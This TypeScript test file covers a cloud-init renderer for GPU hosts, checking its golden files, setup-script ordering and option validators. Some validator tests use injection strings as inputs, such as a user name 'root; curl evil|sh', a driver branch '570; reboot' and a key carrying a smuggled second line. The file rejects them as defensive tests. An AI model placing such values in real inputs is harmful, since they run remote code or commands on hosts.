// cloud-init renderer: golden files, the traps a reviewer checks for, and validation with the
// real tools. Golden files: run `UPDATE_GOLDEN=1 /work/tools/m test/tools/cloudInit.test.ts` to
// rewrite test/golden/cloud-init.*.yaml after an intended change, then review the diff.
import * as assert from "assert";
import { spawnSync } from "child_process";
import * as fs from "fs";
import * as os from "os";
import * as path from "path";
import * as YAML from "yaml";
import { CloudInitOptions, GCE_GUEST_AGENT_CONFIG, renderCloudInit, SETUP_SCRIPT_PATH, validateCloudInitOptions } from "../../cloud-init/render";
import { DOCKER_LOG_ROTATION } from "../../infra/config/fixed";
import { REBOOT_REQUIRED_MARKER, SETUP_DONE_MARKER } from "../../infra/shell/host";
import { DOCKER_DAEMON_JSON_PATH, SSHD_DROP_IN_PATH, setupScript, sshdDropIn } from "../../infra/shell/setup";
import { assertShellcheckClean, assertValidCloudConfig, extractShellSnippets } from "../helpers/cloudInitChecks";
import { requireTool } from "../helpers/tools";
import { HOST_KEY } from "../helpers/hostKeyFixture";

const KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHq3Jm0oKjZ2c3b1hXl5m0V8l6mQb0dY3aT0v8cJkF7P operator@gpu-hosts";
const KEY2 =
    "ecdsa-sha2-nistp256 AAAAE2VjZHNhLXNoYTItbmlzdHAyNTYAAAAIbmlzdHAyNTYAAABBBHq3Jm0oKjZ2c3b1hXl5m0V8l6mQ= ci@gpu-hosts";

/** What the program passes for a stack with the config's defaults (sshUser, driver branch) and the fixed log rotation. */
const BASE: CloudInitOptions = {
    sshUser: "ubuntu", createUser: true, sshAuthorizedKeys: [], nvidiaDriverBranch: "570-server", dockerLog: DOCKER_LOG_ROTATION, registryMirrors: [],
    hostKey: HOST_KEY, gceGuestAgent: false,
};

/** One representative option set per golden file. */
const CASES: Record<string, CloudInitOptions> = {
    // AWS/GCP shape: cloud-init creates the user.
    default: { ...BASE, sshAuthorizedKeys: [KEY] },
    // Azure shape: the VM resource creates the admin user and its keys.
    azure: { ...BASE, sshUser: "azureuser", createUser: false },
    // GCP shape: Google's guest agent is told to leave the host key alone.
    gcp: { ...BASE, sshAuthorizedKeys: [KEY], gceGuestAgent: true },
    custom: {
        sshUser: "gpuadmin",
        createUser: true,
        sshAuthorizedKeys: [KEY, KEY2],
        nvidiaDriverBranch: "550-server-open",
        dockerLog: { maxSize: "50m", maxFile: 5 },
        hostname: "gpu-dev-aws",
        registryMirrors: [],
        hostKey: HOST_KEY,
        gceGuestAgent: false,
    },
};

const GOLDEN_DIR = path.join(__dirname, "..", "golden");

function parse(text: string): Record<string, any> {
    return YAML.parse(text) as Record<string, any>;
}

function writeFile(text: string, filePath: string): { path: string; content: string; permissions?: string; defer?: boolean } {
    const entry = (parse(text).write_files as any[]).find((f) => f.path === filePath);
    assert.ok(entry, `write_files has no ${filePath}`);
    return entry;
}

function setupScriptOf(text: string): string {
    return writeFile(text, SETUP_SCRIPT_PATH).content;
}

/** Lines of the script without comments or blank lines. */
function commands(script: string): string[] {
    return script
        .split("\n")
        .map((l) => l.trim())
        .filter((l) => l !== "" && !l.startsWith("#"));
}

describe("cloud-init renderer", () => {
    describe("golden files", () => {
        for (const [name, opts] of Object.entries(CASES)) {
            it(`matches test/golden/cloud-init.${name}.yaml byte for byte`, () => {
                const file = path.join(GOLDEN_DIR, `cloud-init.${name}.yaml`);
                const rendered = renderCloudInit(opts);
                if (process.env.UPDATE_GOLDEN === "1") {
                    fs.mkdirSync(GOLDEN_DIR, { recursive: true });
                    fs.writeFileSync(file, rendered);
                }
                assert.ok(fs.existsSync(file), `${file} is missing; run with UPDATE_GOLDEN=1 to create it`);
                assert.strictEqual(rendered, fs.readFileSync(file, "utf8"));
            });
        }
    });

    describe("rendered cloud-config", () => {
        const text = renderCloudInit(CASES.default);
        const config = parse(text);
        const script = setupScriptOf(text);

        it("starts with the #cloud-config header", () => {
            assert.ok(text.startsWith("#cloud-config\n"));
        });

        it("raises sshd's MaxStartups and MaxSessions for the Docker provider's parallel SSH sessions, as the real sshd reads them", function () {
            // The setup script writes the drop-in and reloads sshd (test/tools/setupScript.test.ts runs that).
            assert.ok(script.includes(`| put ${SSHD_DROP_IN_PATH} 0644; then`));
            assert.deepStrictEqual(sshdDropIn().split("\n").filter((l: string) => l && !l.startsWith("#")), ["MaxStartups 64:30:128", "MaxSessions 64"]);
            const sshd = requireTool("sshd", this);
            const keygen = requireTool("ssh-keygen", this);
            const dir = fs.mkdtempSync(path.join(os.tmpdir(), "gpu-hosts-sshd-"));
            try {
                fs.writeFileSync(path.join(dir, "sshd_config"), sshdDropIn());
                assert.strictEqual(spawnSync(keygen, ["-q", "-t", "ed25519", "-N", "", "-f", path.join(dir, "host_key")]).status, 0);
                fs.mkdirSync("/run/sshd", { recursive: true });
                const res = spawnSync(sshd, ["-T", "-f", path.join(dir, "sshd_config"), "-h", path.join(dir, "host_key")], { encoding: "utf8" });
                assert.strictEqual(res.status, 0, res.stderr);
                assert.match(res.stdout, /^maxstartups 64:30:128$/m);
                assert.match(res.stdout, /^maxsessions 64$/m);
            } finally {
                fs.rmSync(dir, { recursive: true, force: true });
            }
        });

        it("installs the stack's host key in place of the image's and of any it would generate", function () {
            assert.strictEqual(config.ssh_deletekeys, true);
            assert.deepStrictEqual(config.ssh_keys, { ed25519_private: HOST_KEY.ed25519Private, ed25519_public: HOST_KEY.ed25519Public.trim() });
            assert.strictEqual(config.ssh_genkeytypes, undefined, "ignored by cc_ssh when ssh_keys is given");
            // The real OpenSSH reads the private key as it lands in /etc/ssh, and derives that public key.
            const keygen = requireTool("ssh-keygen", this);
            const dir = fs.mkdtempSync(path.join(os.tmpdir(), "gpu-hosts-hostkey-"));
            try {
                fs.writeFileSync(path.join(dir, "ssh_host_ed25519_key"), config.ssh_keys.ed25519_private, { mode: 0o600 });
                const res = spawnSync(keygen, ["-y", "-f", path.join(dir, "ssh_host_ed25519_key")], { encoding: "utf8" });
                assert.strictEqual(res.status, 0, res.stderr);
                assert.strictEqual(res.stdout.trim(), config.ssh_keys.ed25519_public);
            } finally {
                fs.rmSync(dir, { recursive: true, force: true });
            }
        });

        it("tells Google's guest agent to leave the host key alone on GCE, and only there", () => {
            const gcp = parse(renderCloudInit(CASES.gcp));
            assert.deepStrictEqual(gcp.write_files[0], { path: GCE_GUEST_AGENT_CONFIG, permissions: "0644", append: true, content: "[InstanceSetup]\nset_host_keys = false\n" });
            for (const c of [CASES.default, CASES.azure, CASES.custom]) {
                assert.ok(!parse(renderCloudInit(c)).write_files.some((f: { path: string }) => f.path === GCE_GUEST_AGENT_CONFIG));
            }
        });

        it("writes nothing but the setup script: the same script an operator's server gets over SSH", () => {
            assert.deepStrictEqual(config.write_files.map((f: { path: string }) => f.path), [SETUP_SCRIPT_PATH]);
            assert.strictEqual(script, setupScript({ sshUser: "ubuntu", gpu: true, nvidiaDriverBranch: "570-server", dockerLog: DOCKER_LOG_ROTATION, registryMirrors: [] }));
        });

        it("is deterministic and does not mutate its options", () => {
            const opts = Object.freeze({ ...CASES.custom, sshAuthorizedKeys: Object.freeze([KEY, KEY2]) });
            assert.strictEqual(renderCloudInit(opts), renderCloudInit(opts));
            assert.deepStrictEqual(opts.sshAuthorizedKeys, [KEY, KEY2]);
        });

        it("never upgrades packages at first boot (the kernel must not move under the driver)", () => {
            assert.strictEqual(config.package_upgrade, false);
            assert.strictEqual(config.package_reboot_if_required, false);
            assert.doesNotMatch(text, /apt(-get)? (full-|dist-)?upgrade/);
        });

        it("never reloads systemd units (GPU containers would lose their devices)", () => {
            for (const t of Object.values(CASES).map(renderCloudInit)) {
                assert.doesNotMatch(t, /daemon-reload|daemon-reexec/);
            }
        });

        it("references apt keys by absolute signed-by paths that the script writes", () => {
            const signedBy = [...script.matchAll(/signed-by=([^\] ]+)/g)].map((m) => m[1]);
            assert.deepStrictEqual(signedBy, [
                "/etc/apt/keyrings/docker.asc",
                "/usr/share/keyrings/nvidia-container-toolkit-keyring.gpg",
            ]);
            for (const keyPath of signedBy) {
                assert.ok(path.isAbsolute(keyPath), `${keyPath} is not absolute`);
                assert.ok(script.includes(`install -m 0644 "$tmp" ${keyPath}\n`), `no key written to ${keyPath}`);
                assert.ok(script.includes(`if [ ! -s ${keyPath} ]; then`), `key ${keyPath} is fetched every run`);
            }
            // apt reads binary keyrings only from .gpg files; NVIDIA's key is armoured.
            assert.match(
                script,
                /curl -fsSL https:\/\/nvidia\.github\.io\/libnvidia-container\/gpgkey \| gpg --batch --yes --dearmor -o "\$tmp"/,
            );
            assert.match(script, /https:\/\/nvidia\.github\.io\/libnvidia-container\/stable\/deb\/%s \/\\n' "\$arch"/);
            assert.match(script, /curl -fsSL https:\/\/download\.docker\.com\/linux\/"\$\(os_id\)"\/gpg -o "\$tmp"/);
        });

        it("installs the headless NVIDIA server driver for the configured branch (its behaviour: test/tools/setupScript.test.ts)", () => {
            assert.ok(script.includes("readonly DRIVER_PACKAGES=(nvidia-headless-no-dkms-570-server nvidia-utils-570-server)\nreadonly DRIVER_MODULE_PREFIX=linux-modules-nvidia-570-server-\n"));
            assert.ok(script.includes('apt_get install --no-install-recommends "${modules[@]}" "${DRIVER_PACKAGES[@]}"'));
            const custom = setupScriptOf(renderCloudInit(CASES.custom));
            assert.ok(custom.includes("readonly DRIVER_PACKAGES=(nvidia-headless-no-dkms-550-server-open nvidia-utils-550-server)"));
        });

        it("writes daemon.json with log rotation before Docker is installed, unless the machine has one", () => {
            const cmds = commands(script);
            const write = cmds.findIndex((c) => c.endsWith(`| put ${DOCKER_DAEMON_JSON_PATH} 0644`));
            assert.ok(write > 0 && cmds[write - 1] === 'if [ ! -e "$DAEMON_JSON" ]; then', "an existing daemon.json is kept");
            assert.ok(write < cmds.indexOf('apt_get install "${DOCKER_PACKAGES[@]}"'), "in place before Docker's first start");
            assert.ok(cmds[write].includes(JSON.stringify({ "log-driver": "json-file", "log-opts": { "max-size": "10m", "max-file": "3" } })));
            const custom = setupScriptOf(renderCloudInit(CASES.custom));
            assert.ok(custom.includes(JSON.stringify({ "log-driver": "json-file", "log-opts": { "max-size": "50m", "max-file": "5" } })));
        });

        it("runs the setup script from runcmd, executable, marking completion last", () => {
            assert.deepStrictEqual(config.runcmd, [[SETUP_SCRIPT_PATH]]);
            assert.strictEqual(writeFile(text, SETUP_SCRIPT_PATH).permissions, "0755");
            const cmds = commands(script);
            assert.strictEqual(cmds[0], "set -euo pipefail");
            assert.strictEqual(cmds[cmds.length - 2], 'touch "$DONE_MARKER"');
            assert.ok(script.includes(`readonly DONE_MARKER=${SETUP_DONE_MARKER}\n`));
        });

        it("skips the driver, toolkit and Docker when the image already has them", () => {
            const cmds = commands(script);
            const guarded = (guard: string, install: string) => {
                const g = cmds.indexOf(guard);
                const e = cmds.indexOf("else", g);
                const inst = cmds.indexOf(install);
                const end = cmds.indexOf("fi", inst);
                assert.ok(g >= 0 && g < e && e < inst && inst < end, `${install} is not in the else branch of ${guard}`);
                // Nothing but nested blocks between the else and the install.
                assert.ok(!cmds.slice(g + 1, e).some((c) => c.startsWith("apt_get install")));
            };
            guarded('if nvidia-smi >/dev/null 2>&1 && { [ "$recorded" = "$DRIVER_BRANCH" ] || { [ -z "$recorded" ] && branch_installed; }; }; then', "install_driver");
            guarded("if command -v nvidia-ctk >/dev/null 2>&1; then", "apt_get install nvidia-container-toolkit");
            guarded("if command -v dockerd >/dev/null 2>&1; then", 'apt_get install "${DOCKER_PACKAGES[@]}"');
        });

        it("reboots only when the driver could not be loaded, via a marker file", () => {
            assert.deepStrictEqual(config.power_state, {
                mode: "reboot",
                message: "gpu-hosts: rebooting to load the NVIDIA driver",
                timeout: 30,
                condition: `test -f ${REBOOT_REQUIRED_MARKER}`,
            });
            assert.ok(script.includes(`readonly REBOOT_MARKER=${REBOOT_REQUIRED_MARKER}\n`));
            const cmds = commands(script);
            const load = cmds.indexOf("if modprobe nvidia && nvidia-smi >/dev/null 2>&1; then");
            assert.ok(load >= 0);
            assert.strictEqual(cmds[load + 3], "else");
            assert.strictEqual(cmds[load + 5], 'cat /proc/sys/kernel/random/boot_id >"$REBOOT_MARKER"');
            const rebooting = cmds.filter((c) => /^(reboot|shutdown|systemctl (reboot|poweroff|kexec))\b/.test(c));
            assert.deepStrictEqual(rebooting, [], "the script itself must not reboot");
        });

        it("a missing marker makes the condition exit 1 (not met), not an error", function () {
            if (fs.existsSync(REBOOT_REQUIRED_MARKER)) this.skip();
            const res = spawnSync("sh", ["-c", config.power_state.condition]);
            assert.strictEqual(res.status, 1);
        });

        it("adds the SSH user to the docker group after Docker exists", () => {
            const cmds = commands(script);
            assert.ok(cmds.indexOf('usermod -aG docker "$SSH_USER"') > cmds.indexOf('apt_get install "${DOCKER_PACKAGES[@]}"'));
            assert.ok(script.includes("readonly SSH_USER=ubuntu\n"));
            // A docker group made by cloud-init would break docker-ce's `addgroup --system docker`.
            assert.deepStrictEqual(Object.keys(config.users[0]).sort(), [
                "lock_passwd",
                "name",
                "shell",
                "ssh_authorized_keys",
                "sudo",
            ]);
        });

        it("creates the user with its keys, or leaves it to the cloud (Azure)", () => {
            assert.deepStrictEqual(config.users, [
                {
                    name: "ubuntu",
                    shell: "/bin/bash",
                    sudo: "ALL=(ALL) NOPASSWD:ALL",
                    lock_passwd: true,
                    ssh_authorized_keys: [KEY],
                },
            ]);
            assert.strictEqual(config.ssh_pwauth, false);
            const azureText = renderCloudInit(CASES.azure);
            const azure = parse(azureText);
            assert.strictEqual(azure.users, undefined);
            assert.strictEqual(azure.ssh_authorized_keys, undefined);
            assert.ok(setupScriptOf(azureText).includes("readonly SSH_USER=azureuser\n"));
            const azureWithKey = parse(renderCloudInit({ ...CASES.azure, sshAuthorizedKeys: [KEY] }));
            assert.deepStrictEqual(azureWithKey.ssh_authorized_keys, [KEY]);
        });

        it("sets the hostname only when given", () => {
            assert.strictEqual(config.hostname, undefined);
            assert.strictEqual(parse(renderCloudInit(CASES.custom)).hostname, "gpu-dev-aws");
        });

        it("trims the trailing newline of tls.PrivateKey.publicKeyOpenssh", () => {
            assert.deepStrictEqual(parse(renderCloudInit({ ...BASE, sshAuthorizedKeys: [`${KEY}\n`] })).users[0].ssh_authorized_keys, [KEY]);
        });
    });

    describe("options", () => {
        it("holds no defaults: every option but the hostname is required (the config and infra/config/fixed.ts resolve them)", () => {
            // A type error if any became optional again; the program passes each one.
            const required: Required<Omit<CloudInitOptions, "hostname">> = BASE;
            assert.deepStrictEqual(Object.keys(required).sort(), ["createUser", "dockerLog", "gceGuestAgent", "hostKey", "nvidiaDriverBranch", "registryMirrors", "sshAuthorizedKeys", "sshUser"]);
            const source = fs.readFileSync(path.join(__dirname, "..", "..", "cloud-init", "render.ts"), "utf8");
            assert.doesNotMatch(source, /"570-server"|"ubuntu"|"10m"|DEFAULTS/, "no default of the config's written again");
        });

        it("rejects a bad driver branch, naming the option, the value and what is allowed (infra/validators.ts)", () => {
            assert.throws(
                () => renderCloudInit({ ...CASES.default, nvidiaDriverBranch: "570; reboot" }),
                { message: 'cloud-init option nvidiaDriverBranch must be an Ubuntu NVIDIA server driver branch such as "580-server" or "580-server-open", got "570; reboot"' },
            );
            for (const bad of ["570", "nvidia-570-server", "570-server\n", "570-open", ""]) {
                assert.throws(() => renderCloudInit({ ...CASES.default, nvidiaDriverBranch: bad }), /nvidiaDriverBranch/);
            }
            for (const good of ["535-server", "570-server", "575-server-open"]) {
                assert.doesNotThrow(() => renderCloudInit({ ...CASES.default, nvidiaDriverBranch: good }));
            }
        });

        it("reports every problem at once", () => {
            const problems = validateCloudInitOptions({
                sshUser: "root; curl evil|sh",
                createUser: true,
                sshAuthorizedKeys: ["not a key"],
                nvidiaDriverBranch: "latest",
                dockerLog: { maxSize: "10 MB", maxFile: 0 },
                hostname: "bad_host.example",
                registryMirrors: [],
                hostKey: { ed25519Private: "not a key", ed25519Public: "ssh-rsa AAAAB3NzaC1yc2E=" },
                gceGuestAgent: false,
            });
            assert.deepStrictEqual(problems, [
                'cloud-init option sshUser must be a Linux user name, e.g. "ubuntu", got "root; curl evil|sh"',
                'cloud-init option nvidiaDriverBranch must be an Ubuntu NVIDIA server driver branch such as "580-server" or "580-server-open", got "latest"',
                'cloud-init option dockerLog.maxSize must be a size like "10m" (a positive integer followed by k, m or g), got "10 MB"',
                "cloud-init option dockerLog.maxFile must be an integer from 1 to 100, got 0",
                'cloud-init option sshAuthorizedKeys[0] must be an OpenSSH public key line (ssh-ed25519, ssh-rsa, ecdsa-sha2-nistp*, sk-ssh-ed25519@openssh.com or sk-ecdsa-sha2-nistp256@openssh.com), got "not a key"',
                'cloud-init option hostKey.ed25519Public must be an ssh-ed25519 public key line, got "ssh-rsa AAAAB3NzaC1yc2E="',
                'cloud-init option hostKey.ed25519Private must be an OpenSSH private key ("-----BEGIN OPENSSH PRIVATE KEY-----" ...), got something else (not shown: it is a secret)',
                'cloud-init option hostname must be a single DNS label (letters, digits and \'-\', at most 63 characters), e.g. "gpu-dev-aws", got "bad_host.example"',
            ]);
            assert.throws(() => renderCloudInit({ ...BASE, sshUser: "x y", nvidiaDriverBranch: "1" }), (e: Error) => {
                assert.strictEqual(e.message.split("\n").length, 3); // sshUser, branch, no keys
                return true;
            });
        });

        it("accepts what the config accepts: every key type of infra/validators.ts, and a hostname with capitals", () => {
            for (const key of [KEY, KEY2, "sk-ssh-ed25519@openssh.com AAAAGnNrLXNzaC1lZDI1NTE5QG9wZW5zc2guY29t op", "ssh-rsa AAAAB3NzaC1yc2E="]) {
                assert.deepStrictEqual(validateCloudInitOptions({ ...BASE, sshAuthorizedKeys: [key] }), [], key);
            }
            assert.deepStrictEqual(validateCloudInitOptions({ ...CASES.default, hostname: "GPU-1" }), []);
        });

        it("requires a key when it creates the user", () => {
            assert.deepStrictEqual(validateCloudInitOptions(BASE), [
                "cloud-init option sshAuthorizedKeys must be at least one key when createUser is true, got []",
            ]);
            assert.deepStrictEqual(validateCloudInitOptions({ ...BASE, createUser: false }), []);
        });

        it("rejects keys that would smuggle in a second line", () => {
            assert.throws(() => renderCloudInit({ ...BASE, sshAuthorizedKeys: [`${KEY}\nssh-ed25519 AAAAevil x`] }), /sshAuthorizedKeys\[0\]/);
        });
    });

    describe("validation with the real tools", () => {
        for (const [name, opts] of Object.entries(CASES)) {
            it(`cloud-init schema accepts the ${name} user data`, function () {
                requireTool("cloud-init", this);
                assertValidCloudConfig(renderCloudInit(opts));
            });

            it(`shellcheck finds nothing in the ${name} user data's shell`, function () {
                requireTool("shellcheck", this);
                const checked = assertShellcheckClean(renderCloudInit(opts));
                assert.deepStrictEqual(
                    checked.map((s) => `${s.name} ${s.shell}`),
                    [`write_files[${SETUP_SCRIPT_PATH}] bash`, "runcmd[0] sh", "power_state.condition sh"],
                );
            });
        }

        it("the checks catch what they are for", function () {
            requireTool("cloud-init", this);
            requireTool("shellcheck", this);
            const text = renderCloudInit(CASES.default);
            assert.throws(() => assertValidCloudConfig(text.replace("mode: reboot", "mode: restart")), /power_state\.mode/);
            assert.throws(() => assertValidCloudConfig(text.replace("package_upgrade:", "package_upgarde:")), /package_upgarde/);
            assert.throws(() => assertValidCloudConfig(text.replace("#cloud-config\n", "")), /#cloud-config/);
            const sloppy = text.replace('linux/"$(os_id)"/gpg', "linux/$(os_id)/gpg");
            assert.throws(() => assertShellcheckClean(sloppy), /write_files\[\/usr\/local\/sbin\/gpu-hosts-setup\] \(shellcheck -s bash\):\n.*SC2046/);
            const doc = parse(text);
            doc.runcmd.push("[[ -e /x ]] && echo $HOME");
            const withRuncmd = "#cloud-config\n" + YAML.stringify(doc);
            assert.throws(() => assertShellcheckClean(withRuncmd), /runcmd\[1\] \(shellcheck -s sh\)/);
            assert.strictEqual(extractShellSnippets(withRuncmd)[2].script, "[[ -e /x ]] && echo $HOME\n");
        });
    });
});
